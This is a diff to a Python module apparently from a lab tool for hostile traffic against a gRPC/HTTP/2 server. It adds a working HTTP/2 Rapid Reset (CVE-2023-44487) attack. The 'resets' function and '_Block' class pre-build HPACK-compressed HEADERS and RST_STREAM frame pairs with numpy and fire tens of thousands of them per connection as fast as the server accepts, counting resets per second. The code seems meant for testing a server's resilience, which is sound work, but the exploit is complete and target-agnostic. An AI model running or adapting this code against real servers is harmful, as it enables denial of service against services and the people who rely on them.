@@ -1,6 +1,5 @@
-"""Connections that say nothing, or too much of what is no call."""
+"""Connections that say nothing, or too much of what is no call; and rapid resets (CVE-2023-44487)."""
 
-import os
 import random
 import socket
 import ssl
@@ -9,13 +8,19 @@ from collections.abc import Callable
 from contextlib import ExitStack, suppress
 from typing import Final
 
-from tools.hostile import frames
-from tools.hostile.bodies import UNARY
-from tools.hostile.connection import CONNECT_TIMEOUT_S, Connection
-from tools.hostile.target import Target
+import numpy as np
+
+from tools.lab.hostile import frames
+from tools.lab.hostile.bodies import UNARY
+from tools.lab.hostile.connection import CONNECT_TIMEOUT_S, Connection
+from tools.lab.hostile.target import Target
 
 FRAMES_AT_ONCE: Final = 1000
 MAX_GARBAGE: Final = 5000
+BLOCK_PAIRS: Final = 20_000
+FIELDS: Final = {":path": "", ":authority": "localhost", "te": "trailers", "content-type": "application/grpc"}
+METHOD_POST, SCHEME_HTTP, NEWEST = 0x83, 0x86, 0x80 | 62
+"""Indexed fields of HPACK: two of the static table, and the newest of the dynamic one."""
 TLS_HELLO: Final = bytes.fromhex("16030100c8010000c40303")
 
 
@@ -119,5 +124,46 @@ def handshakes(silent: int) -> Callable[[Target], None]:
     return run
 
 
-def ping() -> bytes:
-    return frames.frame(frames.PING, 0, 0, os.urandom(8))
+def resets(path: str, connections: int) -> Callable[[Target], None]:
+    """Opens and resets streams on the connections in turn, as fast as the server takes them."""
+    first = bytes([METHOD_POST, SCHEME_HTTP])
+    fields = FIELDS | {":path": path}
+    for name, value in fields.items():
+        # Literal with indexing: from then on, each request is six bytes of header.
+        first += b"\x40" + frames.header(name, value)[1:]
+    rest = bytes([METHOD_POST, SCHEME_HTTP, *range(NEWEST + len(fields) - 1, NEWEST - 1, -1)])
+    pairs = BLOCK_PAIRS // connections
+    block = _Block(rest, pairs)
+
+    def run(target: Target) -> None:
+        known: set[Connection] = set()
+
+        def step(connection: Connection) -> None:
+            if connection not in known:
+                known.add(connection)
+                connection.reset(connection.open(first))
+            connection.send(block.starting(connection.take_streams(pairs)))
+            target.count("resets", pairs)
+
+        begin = time.monotonic()
+        target.keep(connections, step, pause_s=0)
+        target.counts["resets_per_s"] = round(target.counts.get("resets", 0) / (time.monotonic() - begin))
+
+    return run
+
+
+class _Block:
+    """The bytes of many pairs of HEADERS and RST_STREAM; only the streams change."""
+
+    def __init__(self, fields: bytes, pairs: int) -> None:
+        head = frames.headers(0, fields)
+        pair = np.frombuffer(head + frames.rst_stream(0), np.uint8)
+        self._bytes = np.tile(pair, (pairs, 1))
+        self._places = (5, len(head) + 5)
+        self._offsets = 2 * np.arange(pairs)
+
+    def starting(self, stream: int) -> bytes:
+        streams = (stream + self._offsets).astype(">u4").view(np.uint8).reshape(-1, 4)
+        for place in self._places:
+            self._bytes[:, place : place + 4] = streams
+        return self._bytes.tobytes()
